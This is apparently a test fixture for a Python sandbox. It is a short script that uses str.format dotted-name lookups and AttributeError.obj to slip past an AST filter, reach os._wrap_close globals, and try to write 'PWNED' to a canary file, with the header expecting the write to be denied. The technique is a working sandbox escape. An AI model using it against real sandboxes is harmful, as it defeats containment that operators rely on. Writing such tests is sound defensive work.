# SPDX-License-Identifier: Apache-2.0
# tries: reach attributes by format strings, and the objects by the error that follows (P04, P05)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# needs: python>=3.10
# for: ast
#
# str.format resolves dotted names in C, out of the filter's sight, but it gives text.  When the
# last name does not exist, AttributeError.obj is the object that did not have it: the object
# itself, not its text.  So every path can be walked that a format string can spell.


def reach(path, start):
    try:
        ('{0.' + path + '.no_such_name}').format(start)
    except AttributeError as e:
        return e.obj


for c in reach('__class__.__base__.__subclasses__', ())():
    if 'os._wrap_close' in str(c):
        scope = reach('__init__.__globals__', c)

try:
    scope['__builtins__']['open']('@CANARY@/file', 'w').write('PWNED')
except OSError as e:
    print(e)
